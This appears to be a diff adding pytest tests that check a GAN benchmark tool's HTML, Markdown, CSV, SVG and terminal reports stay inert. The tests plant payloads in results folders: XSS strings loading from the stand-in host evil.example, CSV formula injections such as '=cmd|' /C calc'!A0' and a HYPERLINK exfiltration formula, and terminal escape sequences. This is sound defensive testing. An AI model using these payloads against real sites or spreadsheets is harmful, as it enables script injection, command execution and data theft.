@@ -1,0 +1,270 @@
+"""Reports are inert: payloads wherever text of a results folder may reach one, and the finished files parsed."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import shutil
+import warnings
+import xml.etree.ElementTree as Xml
+from html.parser import HTMLParser
+from pathlib import Path
+
+import kept_results
+import pandas as pd
+import pytest
+from click.testing import CliRunner
+from pydantic import ValidationError
+
+import gan_bench as gb
+from gan_bench.cli import main
+from gan_bench.record import Score
+from gan_bench.report.files import csv_bytes
+from gan_bench.spec import RunSpec
+from gan_bench.store.store import Store
+
+MARKUP = (
+    "<script>alert(1)</script>",
+    "</style><script src=//evil.example/x.js></script>",
+    "<img src=x onerror=alert(1)>",
+    '"><svg/onload=alert(1)>',
+    "' onmouseover='alert(1)",
+    "<iframe src='javascript:alert(1)'>",
+    '<a href="javascript:alert(1)">x</a>',
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<form action=//evil.example><input autofocus onfocus=alert(1)>",
+    "<math><mtext></table><img src=x onerror=alert(1)>",
+    "{{ 7*7 }}{% for x in y %}",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "![x](//evil.example/y.png)",
+    "[x](javascript:alert(1))",
+    "```\n<img src=//evil.example/y.png>\n```",
+    "x | y | <img src=//evil.example/z.png>",
+    "\n\n# heading\n<script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "\u202egnp.exe",
+    "$\\frac{",
+    "\x1b]8;;//evil.example\x07x\x1b[2J",
+)
+FORMULAS = (
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    '=HYPERLINK("//evil.example?x="&A1)',
+    "x;=1+1",
+    "x\t=1+1",
+    "x\n=1+1",
+    "x\r\n=1+1",
+    'x;"=1+1"',
+    "\uff1d1+1",
+    "',\n=1+1",
+    '","=1+1',
+)
+PAYLOADS = MARKUP + FORMULAS
+RECORD = ("reason", "log_tail", "verdict_reason", "caveat", "started_at", "finished_at", "dataset_requested")
+PROTOCOL = ("dataset_sha256", "reference_split", "extractor_sha256", "resize", "torch_fidelity_version")
+TAGS = {
+    "html", "head", "meta", "title", "style", "body", "main", "header", "h1", "h2", "h3", "p", "dl", "div", "dt",
+    "dd", "section", "ul", "li", "table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td", "span", "figure",
+    "figcaption", "img", "pre",
+}  # fmt: skip
+ATTRIBUTES = {
+    "lang",
+    "charset",
+    "name",
+    "content",
+    "http-equiv",
+    "class",
+    "role",
+    "scope",
+    "style",
+    "alt",
+    "width",
+    "src",
+}
+EXECUTED = re.compile(r"[\s\"]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
+STARTS = re.compile(r"[\t\r\n]")
+
+
+def infected(source: Path, runs: Path, payload: str, seed: int) -> None:
+    """Copy a run with a payload in every text that a record, scores, settings or an environment may hold."""
+    line = "".join(sign for sign in payload if sign.isprintable())  # what is a line of its own must be one
+    spec = json.loads((source / "spec.json").read_text())
+    spec |= {"seed": seed, "settings": {**spec["settings"], "note": line}}
+    run_id = RunSpec.model_validate(spec).run_id
+    shutil.copytree(source, runs / run_id)
+    (runs / run_id / "SHA256SUMS").unlink()  # who sends a folder sends sums that fit, or none
+    record = json.loads((source / "record.json").read_text())
+    record |= {**dict.fromkeys(RECORD, payload), "run_id": run_id, "device": line, "device_name": line}
+    record |= {"status": ("done", "failed", "diverged")[seed % 3], "peak_memory_bytes": -5, "steps": -seed}
+    scores = json.loads((source / "scores.json").read_text())
+    for score in scores:
+        score |= {"title": line, "value": -1.5 - seed}
+        score["protocol"] |= dict.fromkeys(PROTOCOL, payload)
+    environment = {payload: payload, "nested": {payload: payload}, "commit": payload, "torch_version": payload}
+    for name, values in (("spec", spec), ("record", record), ("scores", scores), ("environment", environment)):
+        (runs / run_id / f"{name}.json").write_text(json.dumps(values))
+
+
+@pytest.fixture(scope="module")
+def report(tmp_path_factory: pytest.TempPathFactory, kept: Path) -> Path:
+    """The report over one run a payload."""
+    out = tmp_path_factory.mktemp("infected") / "out"
+    (out / "runs").mkdir(parents=True)
+    for seed, payload in enumerate(PAYLOADS):
+        infected(kept_results.run_folder(kept, kept_results.DONE), out / "runs", payload, seed)
+    told: list[str] = []
+    assert len(Store.open(out, create=False, notify=told.append).runs()) == len(PAYLOADS), told
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # of letters that the plots' font lacks
+        gb.write_report(out)
+    return out / "report"
+
+
+class Page(HTMLParser):
+    """What a browser would find in the page."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.texts: list[str] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.texts.append(data)
+
+    def handle_decl(self, decl: str) -> None:
+        assert decl == "doctype html"
+
+    def handle_comment(self, data: str) -> None:
+        pytest.fail(f"a comment: {data}")
+
+    def handle_pi(self, data: str) -> None:
+        pytest.fail(f"an instruction: {data}")
+
+
+def test_the_page_has_no_script_no_handler_and_no_request(report: Path) -> None:
+    page = Page((report / "index.html").read_text())
+    assert {tag for tag, _ in page.tags} <= TAGS
+    for tag, attributes in page.tags:
+        assert set(attributes) <= ATTRIBUTES, (tag, attributes)
+        if "src" in attributes:
+            assert tag == "img"
+            assert re.fullmatch(r"data:image/png;base64,[A-Za-z0-9+/=]+", attributes["src"] or "")
+        if "style" in attributes:
+            assert re.fullmatch(r"background:#[0-9a-f]{6}", attributes["style"] or "")
+    (policy,) = [values["content"] for tag, values in page.tags if values.get("http-equiv")]
+    assert str(policy).startswith("default-src 'none'")
+    styles = (report / "index.html").read_text().split("<style>")[1].split("</style>")[0]
+    assert "url(" not in styles
+    assert "@import" not in styles
+    shown = " ".join(" ".join(page.texts).split())
+    missing = [payload for payload in PAYLOADS if " ".join(payload.split()) not in shown]
+    assert missing == [], "these did not reach the page: nothing was proved of them"
+
+
+def test_the_markdown_is_text_and_our_own_pictures(report: Path) -> None:
+    text = (report / "report.md").read_text()
+    prose, *commands = text.split("```")
+    assert len(commands) == 2, "one block of commands, at the end"
+    assert all(re.match(r"gan-bench run |    --|    [a-z-]+|$|bash$", line) for line in commands[0].splitlines())
+    assert not re.search(r"(?<!\\)<[A-Za-z/!?]", prose)
+    pictures = re.findall(r"(?<!\\)!\[[^\]]*\]\(([^)]*)\)", prose)
+    assert pictures
+    assert all(re.fullmatch(r"plots/[a-z_]+\.png", picture) for picture in pictures)
+    assert len(re.findall(r"(?<!\\)\]\(", prose)) == len(pictures), "a link"
+    assert {line for line in prose.splitlines() if line.startswith("# ")} == {"# GAN benchmark"}
+
+
+def cells(text: str, delimiter: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
+
+
+def is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize("name", ["runs.csv", "scores.csv", "summary.csv", "leaderboard.csv"])
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_no_cell_is_a_formula(report: Path, name: str, delimiter: str) -> None:
+    """Some spreadsheets take a semicolon or a tab for the separator, whatever the file is called."""
+    text = (report / name).read_text()
+    found = cells(text, delimiter)
+    assert len(found) > len(PAYLOADS)
+    assert [cell for cell in found if EXECUTED.match(cell) and not is_number(cell)] == []
+    if delimiter == ",":
+        assert [cell for cell in found if STARTS.match(cell)] == []
+        assert {len(row) for row in csv.reader(io.StringIO(text))} == {len(next(csv.reader(io.StringIO(text))))}
+
+
+def test_numbers_are_untouched_and_text_is_all_there(report: Path) -> None:
+    with (report / "runs.csv").open(newline="") as file:
+        runs = {int(row["seed"]): row for row in csv.DictReader(file)}
+    with (report / "scores.csv").open(newline="") as file:
+        values = {(row["run_id"], row["metric"]): row["value"] for row in csv.DictReader(file)}
+    for seed, payload in enumerate(PAYLOADS):
+        assert (runs[seed]["peak_memory_bytes"], runs[seed]["steps"]) == ("-5", str(-seed))
+        assert float(values[runs[seed]["run_id"], "fid"]) == -1.5 - seed
+        kept = runs[seed]["reason"].replace("'", "").split()
+        assert kept == payload.replace("'", "").split(), "only apostrophes are added"
+
+
+def test_pictures_hold_no_script_and_ask_for_nothing(report: Path) -> None:
+    drawn = sorted((report / "plots").glob("*.svg"))
+    assert len(drawn) > 3
+    for path in drawn:
+        for element in Xml.fromstring(path.read_text()).iter():
+            tag = element.tag.rpartition("}")[2]
+            assert tag not in ("script", "foreignObject", "iframe", "a", "animate", "set")
+            for key, value in element.attrib.items():
+                name = key.rpartition("}")[2]
+                assert not name.startswith("on")
+                if name in ("href", "src"):
+                    assert value.startswith(("#", "data:image/png;base64,"))
+                assert "url(" not in value or "url(#" in value
+
+
+def test_the_terminal_gets_no_commands(report: Path) -> None:
+    """What a terminal would obey (escape sequences) is not passed on from a folder."""
+    out = report.parent
+    for arguments in (
+        ["status", str(out)],
+        ["compare", "vanilla", "vanilla", str(out)],
+        ["doctor", f"--results={out}"],
+    ):
+        said = CliRunner().invoke(main, arguments)
+        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\x9b]", said.output), arguments
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_no_heading_is_a_formula(payload: str) -> None:
+    """A plugin's metric names its own column."""
+    heading = next(csv.reader(io.StringIO(csv_bytes(pd.DataFrame({payload: [1.0]})).decode())))[0]
+    assert not EXECUTED.match(heading)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_what_names_a_column_is_a_name_and_what_labels_an_axis_is_a_line(kept: Path, payload: str) -> None:
+    score = json.loads((kept_results.run_folder(kept, kept_results.DONE) / "scores.json").read_text())[0]
+    with pytest.raises(ValidationError):
+        Score.model_validate({**score, "metric": payload})
+    if not payload.isprintable():
+        with pytest.raises(ValidationError):
+            Score.model_validate({**score, "title": payload})
